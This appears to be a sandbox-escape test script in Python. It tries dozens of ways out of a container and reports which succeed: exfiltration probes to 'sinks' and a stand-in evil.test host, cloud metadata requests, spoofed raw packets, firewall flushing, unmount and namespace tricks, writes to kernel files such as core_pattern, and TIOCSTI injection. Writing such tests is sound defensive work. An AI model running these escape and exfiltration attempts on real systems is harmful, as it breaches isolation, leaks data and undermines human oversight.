#!/usr/bin/env python3
"""Runs inside the sandbox and tries to get out.  usage: attacks.py GROUP|ATTACK... < targets.json

What each attack met goes to standard output as JSON.  Whether anything got out is for
the world outside to say; here only what can be seen from inside is marked ESCAPED.
"""
import ctypes
import errno
import fcntl
import glob
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
T = {}
GROUPS = {}


def attack(group):
    def add(fn):
        GROUPS.setdefault(group, []).append(fn)
        return fn
    return add


def syscall(*args):
    value = libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return value if value >= 0 else -ctypes.get_errno()


def tcp(address, port, data=b"GET / HTTP/1.1\r\nHost: x.evil.test\r\n\r\n"):
    try:
        with socket.create_connection((address, port), timeout=1.5) as c:
            c.sendall(data)
            return f"captured, {len(c.recv(4096))} bytes"
    except OSError as e:
        return str(e)


def udp(address, port, data=b"leak"):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(T.get("patience", 0.3))
    try:
        s.connect((address, port))
        s.send(data)
        return f"answered, {len(s.recv(4096))} bytes"
    except OSError as e:
        return str(e)
    finally:
        s.close()


def raw(family, proto, data, to):
    s = socket.socket(family, socket.SOCK_RAW, proto)
    s.sendto(data, to)
    s.close()
    return "sent"


def dns_query(name):
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"


@attack("net")
def other_resolvers():
    q = dns_query("secret.evil.test")
    found = [udp(a, 53, q) for a in (*T["sinks"], "8.8.8.8")]
    return found + [tcp(a, 53, struct.pack("!H", len(q)) + q) for a in T["sinks"]]


@attack("net")
def tcp_to_every_sink():
    return [tcp(a, p) for a in T["sinks"] for p in (22, 80, 443, 853, 4444)]


@attack("net")
def udp_to_every_sink():
    return [udp(a, p) for a in T["sinks"] for p in (443, 853, 5353, 4444)]


@attack("net")
def doh_by_address_with_a_name_that_is_not_allowed():
    return [tcp(a, 443, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00") for a in T["sinks"]]


@attack("net")
def metadata():
    return [tcp("169.254.169.254", 80), tcp("fd00:ec2::254", 80), udp("169.254.169.254", 4444)]


@attack("net")
def ports_of_the_gateway_itself():
    return [tcp(a, p) for p in T["ports"] for a in T["own"]]


@attack("net")
def raw_sockets():
    seen = []
    for proto in (1, 4, 17, 47, 132, 136, 255):
        try:
            seen.append(raw(socket.AF_INET, proto, ip4(T["sinks"][0], proto) if proto == 255 else b"x" * 64,
                            (T["sinks"][0], 0)))
        except OSError as e:
            seen.append(str(e))
    return seen


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff


def ip4(to, proto=17, fragment=0, source="203.0.113.5"):
    """Whole: where the kernel doesn't see it leave, nobody else fills it in."""
    body = struct.pack("!HHHH", 4444, 4444, 12, 0) + b"leak"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, fragment, 64, 17 if proto == 255 else proto, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ip6(to, source):
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
    body = struct.pack("!HHHH", 4444, 4444, 12, 0) + b"leak"
    body = body[:6] + struct.pack("!H", checksum(addresses + struct.pack("!II", 12, 17) + body)) + body[8:]
    return struct.pack("!IHBB", 0x60000000, len(body), 17, 64) + addresses + body


@attack("net")
def fragments_and_spoofed_sources():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    seen = []
    for fragment in (0, 0x2000, 0x0003):
        for source in ("203.0.113.5", T.get("neighbour", "10.77.0.3"), "127.0.0.1"):
            try:
                seen.append(s.sendto(ip4(T["sinks"][0], 17, fragment, source), (T["sinks"][0], 0)))
            except OSError as e:
                seen.append(str(e))
    return seen


def packets():
    """To hosts of both kinds, from us, from nobody, from a neighbour, from the host itself."""
    own = sources()
    for source in (own[4], "203.0.113.5", T.get("neighbour", "10.77.0.3"), "127.0.0.1"):
        for to in (*T["sinks"], *T["own"]):
            yield b"\x08\0" + ip4(to, source=source)
    for source in (own[6], "fe80::2", "2001:db8::5", "::1"):
        for to in T["sinks6"]:
            yield b"\x86\xdd" + ip6(to, source)
    yield b"\x86\xdd" + router_advertisement()


def sources():
    found = {4: "10.77.0.2", 6: "fd77::2"}
    for version, family, to in ((4, socket.AF_INET, T["sinks"]), (6, socket.AF_INET6, T["sinks6"])):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.connect((to[0], 9))
                found[version] = s.getsockname()[0]
        except OSError:
            pass
    return found


@attack("net")
def frames():
    """To everybody, to groups, and to those of which a bridge takes each at the port itself (01:80:c2:00:00:0x)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
    seen = []
    targets = [b"\xff" * 6, b"\x33\x33\0\0\0\1", b"\1\0\x5e\0\0\1"] + [b"\1\x80\xc2\0\0" + bytes([n]) for n in range(0x22)]
    for name in os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else ["lo"]:
        try:
            s.bind((name, 0))
            mine = s.getsockname()[4] if len(s.getsockname()[4]) == 6 else b"\2" * 6
            for to in targets:
                for source in (mine, b"\2\0\0\0\0\x66"):
                    for tag in (b"", b"\x81\0\0\1", b"\x81\0\0\0", b"\x88\xa8\0\1\x81\0\0\1"):
                        for packet in packets():
                            s.send(to + source + tag + packet)
            seen.append(f"{name}: sent")
        except OSError as e:
            seen.append(f"{name}: {e}")
    return seen


def router_advertisement():
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    return struct.pack("!IHBB16s16s", 0x60000000, len(body), 58, 255, socket.inet_pton(socket.AF_INET6, "fe80::2"),
                       socket.inet_pton(socket.AF_INET6, "ff02::1")) + body


@attack("net")
def other_transports():
    seen = []
    for kind, proto in ((socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132),
                        (socket.SOCK_DGRAM, 1), (socket.SOCK_DGRAM, 58), (socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 33)):
        try:
            with socket.socket(socket.AF_INET6 if proto == 58 else socket.AF_INET, kind, proto) as s:
                s.settimeout(0.5)
                to = T["sinks6"][0] if proto == 58 else T["sinks"][0]
                s.sendto(b"\x08\0\0\0\0\1\0\1leak", (to, 4444)) if kind == socket.SOCK_DGRAM else s.connect((to, 4444))
                seen.append("sent")
        except OSError as e:
            seen.append(str(e))
    return seen


@attack("net")
def fast_open():
    seen = []
    for a in T["sinks"]:
        try:
            with socket.socket() as s:
                s.settimeout(1)
                seen.append(s.sendto(b"leak", 0x20000000, (a, 4444)))
        except OSError as e:
            seen.append(str(e))
    return seen


@attack("net")
def ipv6():
    found = [udp(a, p) for a in T["sinks6"] for p in (53, 443, 4444)]
    found += [tcp(a, p) for a in T["sinks6"] for p in (80, 443, 4444)]
    for index in (1, 2, 3):
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                found.append([s.sendto(b"leak", (a, 4444, 0, index)) for a in ("fe80::66", "ff02::1", "ff02::fb")])
        except OSError as e:
            found.append(str(e))
    return found


@attack("net")
def quic_is_refused_at_once():
    begun = time.monotonic()
    said = udp(T["sinks"][0], 443)
    took = time.monotonic() - begun
    return said if took < 0.25 and "refused" in said.lower() else f"ESCAPED: {said} after {took:.2f} s"


@attack("net")
def the_neighbour():
    return [way(T[which], 4444) for which in ("neighbour", "neighbour6") if which in T for way in (tcp, udp)]


@attack("root")
def undo_the_rules():
    tools = [["nft", "flush", "ruleset"], ["ip", "route", "flush", "table", "local"], ["ip", "route", "add", "default", "dev", "lo"],
             ["ip", "link", "add", "w0", "type", "veth", "peer", "name", "w1", "netns", "1"], ["ip", "link", "set", "lo", "down"],
             ["ip", "link", "add", "d0", "type", "dummy"], ["sysctl", "-w", "net.ipv4.ip_forward=1"],
             ["ip", "link", "set", "lo", "up"]]
    return [subprocess.run(t, capture_output=True, text=True).stderr.strip()[:80] for t in tools]


@attack("box")
def unix_sockets_of_the_host():
    seen = {}
    for path in T["unix"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            for way in (path, "/proc/self/root" + path, os.path.relpath(path)):
                try:
                    with socket.socket(socket.AF_UNIX, kind) as s:
                        s.settimeout(2)
                        s.connect(way)
                        s.send(b"leak")
                        seen[path] = "ESCAPED"
                except OSError as e:
                    seen.setdefault(path, str(e))
    return seen


@attack("box")
def abstract_sockets():
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("\0" + T["abstract"])
            return "ESCAPED"
    except OSError as e:
        return str(e)


@attack("box")
def unix_datagrams_by_any_maker():
    seen = []
    for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_RAW), lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):
        try:
            make().sendto(b"leak", T["unix"][-1])
            seen.append("ESCAPED")
        except OSError as e:
            seen.append(str(e))
    return seen


@attack("box")
def a_link_that_changes_while_it_is_looked_at():
    """An address and a link that two threads swap between a socket inside and one outside."""
    import threading
    inside, link = f"/tmp/esc-in-{os.getpid()}", f"/tmp/esc-link-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(inside)
    server.listen(64)
    server.setblocking(False)
    stop = []

    def swap():
        while not stop:
            for to in (inside, T["unix"][-1]):
                os.symlink(to, link + "x")
                os.rename(link + "x", link)
    thread = threading.Thread(target=swap)
    thread.start()
    time.sleep(0.05)
    for _ in range(300):
        with socket.socket(socket.AF_UNIX) as s:
            try:
                s.settimeout(1)
                s.connect(link)
                s.send(b"leak")
            except OSError:
                pass
        try:
            server.accept()[0].close()
        except OSError:
            pass
    stop.append(1)
    thread.join()
    os.unlink(link)
    os.unlink(inside)
    return "tried"


@attack("box")
def families():
    seen = {}
    for family in list(range(3, 10)) + list(range(11, 70)) + [1 << 32 | 16, 1 << 32 | 40]:
        protocol = 4 if family == 16 else 0  # NETLINK_SOCK_DIAG
        fd = syscall(41, family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM, protocol)
        if fd >= 0:
            seen[family] = "ESCAPED"
    return seen


def pidfd_getfd(pid):
    own = syscall(434, pid, 0)
    if own < 0:
        return own
    found = syscall(438, own, 3, 0)
    os.close(own)
    return found if found < 0 else "ESCAPED: a descriptor of another process"


@attack("box")
def processes_outside():
    seen = [f"ESCAPED: {p}" for p in glob.glob("/proc/[0-9]*/cmdline") if T["mark"] in open(p, "rb").read().decode(errors="replace")]
    for pid in (T["pid"], 1):
        for what in (lambda: os.kill(pid, signal.SIGKILL), lambda: syscall(101, 16, pid, 0, 0), lambda: syscall(310, pid, 0, 0, 0, 0, 0),
                     lambda: os.listdir(f"/proc/{pid}/root/"), lambda: os.readlink(f"/proc/{pid}/ns/net"), lambda: pidfd_getfd(pid)):
            try:
                seen.append(str(what()))
            except OSError as e:
                seen.append(str(e))
    return seen


@attack("box")
def namespaces_of_others():
    seen = []
    for path in glob.glob("/proc/1/ns/*") + glob.glob("/proc/*/ns/net") + glob.glob("/run/netns/*") + glob.glob("/var/run/docker/netns/*"):
        try:
            fd = os.open(path, os.O_RDONLY)
            seen.append(libc.setns(fd, 0) and ctypes.get_errno())
            os.close(fd)
        except OSError as e:
            seen.append(e.errno)
    return sorted(set(seen), key=str)


@attack("box")
def masks():
    seen = []
    for path in ("/run", "/proc", "/proc/sys", "/sys", "/dev/pts", "/dev/shm", "/tmp/.X11-unix", "/etc/resolv.conf"):
        for flags in (0, 2):
            seen.append(libc.umount2(path.encode(), flags) and ctypes.get_errno())
    for tool in (["unshare", "-Urm", "umount", "-l", "/run"], ["unshare", "-Ur", "umount", "/run"], ["unshare", "-Urmn", "true"],
                 ["unshare", "-Urm", "sh", "-c", "umount -l /run || umount -R /; ls /run | grep -q sandgate-escape && echo ESCAPED"],
                 ["unshare", "-Urmpf", "sh", "-c", "mount -t proc p /mnt && umount /proc && echo ESCAPED"]):
        done = subprocess.run(tool, capture_output=True, text=True)
        seen.append(done.stdout + done.stderr[:60])
    return seen


@attack("box")
def files_of_the_kernel():
    seen = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                 *glob.glob("/sys/fs/cgroup/**/release_agent"), "/sys/power/state", "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(path, "r+b"):
                seen.append(f"ESCAPED: {path} can be written")
        except OSError as e:
            seen.append(e.errno)
    return seen


@attack("box")
def control_groups():
    """In namespaces of its own root mounts them anew, and writes."""
    script = ("for kind in 'cgroup2 c' 'cgroup -o pids c' 'cgroup -o freezer c' 'cgroup -o none,name=systemd c'; do"
              " mount -t $kind /mnt && { test -w /mnt/cgroup.procs && echo ESCAPED; umount /mnt; }; done")
    done = [subprocess.run(["unshare", how, "sh", "-c", script], capture_output=True, text=True) for how in ("-mC", "-UrmC", "-Urm")]
    return [d.stdout + d.stderr[:60] for d in done]


@attack("box")
def devices():
    import stat
    known, seen = {"null", "zero", "full", "random", "urandom", "tty", "pts/ptmx"}, []
    for folder, _, names in os.walk("/dev"):
        for name in (os.path.join(folder, n)[5:] for n in names):
            mode = os.lstat("/dev/" + name).st_mode
            if name not in known and (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)):
                seen.append(f"ESCAPED: /dev/{name}")
    for name in known:
        os.close(os.open("/dev/" + name, os.O_RDWR if name != "tty" else os.O_PATH))
    with open("/dev/shm/escape", "w") as f:
        seen.append(f.write("own"))
    return seen


@attack("first")
def inherited_descriptors():
    mine = os.open("/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
    found = [f for f in os.listdir("/proc/self/fd") if int(f) > 2 and int(f) != mine]
    os.close(mine)
    return [f"ESCAPED: {os.readlink('/proc/self/fd/' + f)}" for f in found if os.path.exists(f"/proc/self/fd/{f}")]


@attack("box")
def rings_and_typing():
    seen = [syscall(425, 8, ctypes.create_string_buffer(512)), syscall(426, 0, 0, 0, 0, 0, 0), syscall(427, 0, 0, 0, 0)]
    seen = ["ESCAPED" if v >= 0 else v for v in seen]
    for request in (termios.TIOCSTI, 1 << 32 | termios.TIOCSTI):
        value = syscall(16, 0, request, ctypes.create_string_buffer(b"x"))
        seen.append("ESCAPED" if value == 0 or value == -errno.ENOTTY else value)
    return seen


@attack("box")
def keys_of_the_session():
    text = ctypes.c_char_p(b"user"), ctypes.c_char_p(b"sandgate-escape")
    found = [syscall(248, *text, b"x", 1, -4), syscall(249, *text, None, 0), syscall(250, 10, *text, 0, 0), syscall(250, 8, -4, -3)]
    return [v if v == -errno.ENOSYS else f"ESCAPED: {v}" for v in found]


@attack("box")
def variables():
    return [f"ESCAPED: {n}" for n in ("SSH_AUTH_SOCK", "DISPLAY", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "XDG_RUNTIME_DIR") if n in os.environ]


@attack("last")
def an_allowed_request_still_works():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    for _ in range(2):
        try:
            return opener.open("http://ok.example.test/", timeout=8).read().decode()
        except OSError as e:
            said = e
    return f"failed: {said}"


def main():
    T.update(json.load(sys.stdin))
    out = {}
    for group in sys.argv[1:]:
        for fn in GROUPS.get(group) or [globals()[group]]:
            try:
                out[fn.__name__] = fn()
            except (OSError, ValueError) as e:
                out[fn.__name__] = str(e)
    print(json.dumps(out, default=str))


main()
